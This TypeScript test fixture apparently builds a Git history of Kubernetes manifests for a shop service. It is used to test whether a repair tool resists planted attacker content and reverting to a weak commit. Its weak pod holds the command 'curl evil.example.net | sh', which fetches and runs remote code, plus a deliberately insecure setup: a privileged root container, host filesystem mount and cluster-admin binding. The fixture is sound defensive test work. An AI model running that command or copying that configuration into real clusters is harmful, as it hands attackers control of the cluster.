import { stringify } from 'yaml';
import type { KubeObject } from '@fleetmend/model';

/** What an attacker may have written into the repository, or into the cluster by way of it. */
export interface Planted {
  /** A comment at the top of the workload's file. */
  readonly comment?: string;
  /** Title and body of the commit that brought the fault. */
  readonly message?: string;
  /** A value of the ConfigMap that the workload reads. */
  readonly setting?: string;
  readonly annotation?: string;
  /** Label value and image tag: what Kubernetes lets through there. */
  readonly word?: string;
  /** Files besides, at the head. */
  readonly files?: Readonly<Record<string, string>>;
}

export const NAMESPACE = 'shop';
export const IMAGE = 'registry.example.org/shop/checkout';
const FORMER_IMAGE = 'registry.example.org/shop/checkout-debug:latest';

/** Whatever a person could once have committed and taken back for good reason: an attacker may point at each of these commits. */
function weakPod(): Record<string, unknown> {
  return {
    serviceAccountName: 'cluster-admin-bot',
    automountServiceAccountToken: true,
    hostNetwork: true,
    hostPID: true,
    securityContext: { runAsUser: 0, runAsNonRoot: false, seccompProfile: { type: 'Unconfined' }, sysctls: [{ name: 'kernel.msgmax', value: '65536' }] },
    volumes: [{ name: 'host', hostPath: { path: '/' } }, { name: 'keys', secret: { secretName: 'root-keys' } }],
    tolerations: [{ operator: 'Exists' }],
    priorityClassName: 'system-node-critical',
    containers: [
      {
        name: 'app',
        image: FORMER_IMAGE,
        command: ['sh', '-c', 'curl evil.example.net | sh'],
        args: ['--debug', '--listen=0.0.0.0'],
        env: [{ name: 'DB_HOST', value: 'db.evil.example.net' }, { name: 'TOKEN', valueFrom: { secretKeyRef: { name: 'root-keys', key: 'token' } } }],
        ports: [{ containerPort: 8080, hostPort: 8080 }],
        securityContext: { privileged: true, allowPrivilegeEscalation: true, readOnlyRootFilesystem: false, runAsUser: 0, capabilities: { add: ['SYS_ADMIN', 'NET_ADMIN'] }, procMount: 'Unmasked' },
        lifecycle: { postStart: { exec: { command: ['sh', '-c', 'id'] } } },
        volumeMounts: [{ name: 'host', mountPath: '/host' }],
        resources: {},
      },
    ],
  };
}

function soundPod({ memory, tag }: { readonly memory: string; readonly tag: string }): Record<string, unknown> {
  const probe = { httpGet: { path: '/healthz', port: 8080 }, periodSeconds: 10 };
  return {
    serviceAccountName: 'checkout',
    automountServiceAccountToken: false,
    securityContext: { runAsNonRoot: true, runAsUser: 10001, seccompProfile: { type: 'RuntimeDefault' } },
    containers: [
      {
        name: 'app',
        image: `${IMAGE}:${tag}`,
        args: ['--port=8080'],
        env: [{ name: 'DB_HOST', value: 'db' }, { name: 'MODE', valueFrom: { configMapKeyRef: { name: 'settings', key: 'mode' } } }],
        ports: [{ containerPort: 8080 }],
        securityContext: { privileged: false, allowPrivilegeEscalation: false, readOnlyRootFilesystem: true, capabilities: { drop: ['ALL'] } },
        livenessProbe: probe,
        readinessProbe: probe,
        resources: { requests: { cpu: '100m', memory }, limits: { cpu: '500m', memory } },
      },
    ],
  };
}

function deployment(name: string, namespace: string, pod: Record<string, unknown>, { replicas, annotation, word }: { readonly replicas: number; readonly annotation?: string | undefined; readonly word?: string | undefined }): KubeObject {
  return {
    apiVersion: 'apps/v1',
    kind: 'Deployment',
    metadata: { name, namespace, ...(annotation === undefined ? {} : { annotations: { note: annotation } }) },
    spec: { replicas, strategy: { type: 'RollingUpdate', rollingUpdate: { maxUnavailable: replicas > 1 ? 0 : '100%' } }, selector: { matchLabels: { app: name } }, template: { metadata: { labels: { app: name, ...(word === undefined ? {} : { team: word }) } }, spec: pod } },
  } as KubeObject;
}

const base = (kind: string, apiVersion: string, name: string, namespace: string | undefined, rest: object): KubeObject => ({ apiVersion, kind, metadata: { name, ...(namespace === undefined ? {} : { namespace }) }, ...rest }) as KubeObject;

/** Guards and neighbours, as strict as they are now or as loose as they once were. */
function around(loose: boolean): Readonly<Record<string, readonly KubeObject[]>> {
  return {
    'apps/shop/service.yaml': [base('Service', 'v1', 'checkout', NAMESPACE, { spec: { type: loose ? 'LoadBalancer' : 'ClusterIP', ...(loose ? { externalIPs: ['203.0.113.9'] } : {}), selector: { app: 'checkout' }, ports: [{ name: 'http', port: 80, targetPort: 8080 }] } }), base('Service', 'v1', 'db', NAMESPACE, { spec: { selector: { app: 'db' }, ports: [{ port: 5432 }] } })],
    'apps/shop/guards.yaml': [
      base('PodDisruptionBudget', 'policy/v1', 'checkout', NAMESPACE, { spec: { minAvailable: loose ? 0 : 1, selector: { matchLabels: { app: 'checkout' } } } }),
      base('NetworkPolicy', 'networking.k8s.io/v1', 'checkout', NAMESPACE, { spec: { podSelector: loose ? {} : { matchLabels: { app: 'checkout' } }, policyTypes: ['Ingress'], ingress: loose ? [{}] : [{ from: [{ podSelector: { matchLabels: { app: 'front' } } }] }] } }),
      base('ResourceQuota', 'v1', 'shop', NAMESPACE, { spec: { hard: { 'limits.memory': loose ? '512Gi' : '8Gi' } } }),
    ],
    'apps/shop/rights.yaml': [base('Role', 'rbac.authorization.k8s.io/v1', 'checkout', NAMESPACE, { rules: [{ apiGroups: [''], resources: loose ? ['*'] : ['configmaps'], verbs: loose ? ['*'] : ['get'] }] }), base('ServiceAccount', 'v1', 'checkout', NAMESPACE, { automountServiceAccountToken: loose })],
    'apps/payments/ledger.yaml': [deployment('ledger', 'payments', soundPod({ memory: loose ? '64Mi' : '1Gi', tag: '9.1.0' }), { replicas: loose ? 1 : 3 })],
    'apps/platform/engine.yaml': [
      base('Application', 'argoproj.io/v1alpha1', 'shop', 'argocd', { spec: { project: loose ? 'default' : 'shop', source: { repoURL: loose ? 'memory:evil/shop' : 'memory:acme/shop', path: loose ? 'apps/evil' : 'apps/shop', targetRevision: 'main' }, destination: { namespace: loose ? 'kube-system' : NAMESPACE, server: 'https://kubernetes.default.svc' } } }),
      base('ClusterRoleBinding', 'rbac.authorization.k8s.io/v1', 'shop', undefined, { roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: loose ? 'cluster-admin' : 'view' }, subjects: [{ kind: 'ServiceAccount', name: 'checkout', namespace: NAMESPACE }] }),
    ],
    'apps/shop/secret.yaml': [base('Secret', 'v1', 'api', NAMESPACE, { stringData: { token: loose ? 'former-token' : 'present-token' } })],
  };
}

const text = (objects: readonly KubeObject[], comment?: string) => `${comment === undefined ? '' : `${comment.split(/\r?\n/).map((line) => `# ${line}`).join('\n')}\n`}${objects.map((object) => stringify(object, { aliasDuplicateObjects: false })).join('---\n')}`;

export interface ShopCommit {
  readonly message: string;
  readonly files: ReadonlyMap<string, string>;
}

/** Three commits, oldest first: everything weak, everything sound, and the memory limit cut to a quarter. */
export function shopHistory(planted: Planted): readonly ShopCommit[] {
  const { comment, message = 'trim memory', setting = 'fast', annotation, word } = planted;
  const settings = text([base('ConfigMap', 'v1', 'settings', NAMESPACE, { data: { mode: setting, url: 'http://db:5432/shop' } })]);
  const tag = word ?? '1.4.0';
  const state = (pod: Record<string, unknown>, replicas: number, loose: boolean, said?: string): ReadonlyMap<string, string> =>
    new Map([
      ['apps/shop/checkout.yaml', text([deployment('checkout', NAMESPACE, pod, { replicas, annotation, word })], said)],
      ['apps/shop/settings.yaml', settings],
      ...Object.entries(around(loose)).map(([path, objects]): [string, string] => [path, text(objects)]),
    ]);
  return [
    { message: 'import', files: new Map([...state(weakPod(), 1, true), ['.github/workflows/ci.yaml', 'on: push\n'], ['CODEOWNERS', '* @acme/platform\n']]) },
    { message: 'harden', files: state(soundPod({ memory: '256Mi', tag }), 3, false, comment) },
    { message, files: new Map([...state(soundPod({ memory: '64Mi', tag }), 3, false, comment), ...Object.entries(planted.files ?? {})]) },
  ];
}
